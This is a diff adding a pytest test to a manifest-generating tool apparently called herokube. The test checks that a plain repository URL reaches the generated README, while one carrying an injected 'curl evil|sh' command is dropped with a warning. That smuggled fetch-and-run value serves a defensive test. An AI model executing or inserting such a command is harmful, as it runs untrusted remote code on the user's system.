@@ -146,3 +146,25 @@ def test_a_config_var_name_holding_yaml_stays_one_key(tmp_path: Path) -> None:
     configmaps = [m.data for m in result.manifests if m.data.get("kind") == "ConfigMap"]
     assert len(configmaps) == 1
     assert configmaps[0]["data"] == {"LOG_LEVEL": "debug", hostile: "y", "PLAIN: {a: b}": "z"}
+
+
+def test_another_hosts_plain_url_is_kept_for_people_and_a_shell_like_one_is_dropped(
+    tmp_path: Path,
+) -> None:
+    kept = tmp_path / "kept"
+    run = run_herokube(
+        "new",
+        _write(tmp_path, _export(repository="https://gitlab.com/acme/app.git")),
+        "--out",
+        kept,
+    )
+    assert run.code == 0, run.err
+    assert "https://gitlab.com/acme/app.git" in (kept / "README.md").read_text(encoding="utf-8")
+    dropped = tmp_path / "dropped"
+    (tmp_path / "x").mkdir()
+    export = _write(tmp_path / "x", _export(repository="https://gitlab.com/a/b;curl evil|sh"))
+    run = run_herokube("new", export, "--out", dropped)
+    assert run.code == 0, run.err
+    assert "[repository-ignored]" in run.err
+    runbook = (dropped / "docs" / "migration.md").read_text(encoding="utf-8")
+    assert "curl evil" not in runbook and "curl evil" not in (dropped / "README.md").read_text()
